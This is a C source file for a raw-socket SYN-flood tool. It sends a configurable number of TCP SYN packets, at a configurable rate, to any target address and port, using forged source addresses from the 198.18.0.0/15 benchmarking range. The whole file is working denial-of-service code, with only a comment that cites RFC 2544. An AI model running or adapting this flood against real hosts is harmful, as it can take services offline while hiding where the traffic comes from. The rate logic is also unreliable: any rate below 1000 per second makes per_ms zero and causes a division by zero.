// SPDX-License-Identifier: Apache-2.0
/* flood ADDRESS PORT COUNT PER_SECOND: TCP SYNs over IPv4 from sources in 198.18.0.0/15 (RFC 2544) that nobody has. */
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

struct packet {
	struct iphdr ip;
	struct tcphdr tcp;
};

static uint32_t sum(const void *data, size_t bytes, uint32_t from)
{
	const uint16_t *words = data;

	for (; bytes; bytes -= 2)
		from += *words++;
	return from;
}

static uint16_t fold(uint32_t total)
{
	while (total >> 16)
		total = (total & 0xffff) + (total >> 16);
	return ~total;
}

static void address(struct packet *p, uint32_t n, uint32_t target, int port)
{
	memset(p, 0, sizeof(*p));
	p->ip = (struct iphdr){ .version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_TCP };
	p->ip.tot_len = htons(sizeof(*p));
	p->ip.saddr = htonl(0xc6120000 | (n & 0x1ffff));
	p->ip.daddr = target;
	p->tcp.source = htons(1024 + n % 60000);
	p->tcp.dest = htons(port);
	p->tcp.seq = htonl(n);
	p->tcp.doff = 5;
	p->tcp.syn = 1;
	p->tcp.window = htons(64240);
	/* The pseudo header: both addresses, the protocol, the length. */
	p->tcp.check = fold(sum(&p->tcp, sizeof(p->tcp),
				sum(&p->ip.saddr, 8, htons(IPPROTO_TCP) + htons(sizeof(p->tcp)))));
}

int main(int argc, char **argv)
{
	int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	struct sockaddr_in to = { .sin_family = AF_INET };
	struct timespec pause = { .tv_nsec = 1000000 };
	struct packet p;
	long count, per_ms, sent = 0;

	if (fd < 0 || argc != 5 || inet_pton(AF_INET, argv[1], &to.sin_addr) != 1)
		return 2;
	count = atol(argv[3]);
	per_ms = atol(argv[4]) / 1000;
	for (long n = 0; n < count; n++) {
		address(&p, n, to.sin_addr.s_addr, atoi(argv[2]));
		sent += sendto(fd, &p, sizeof(p), 0, (void *)&to, sizeof(to)) == sizeof(p);
		if (n % per_ms == 0)
			nanosleep(&pause, NULL);
	}
	printf("%ld\n", sent);
	return 0;
}
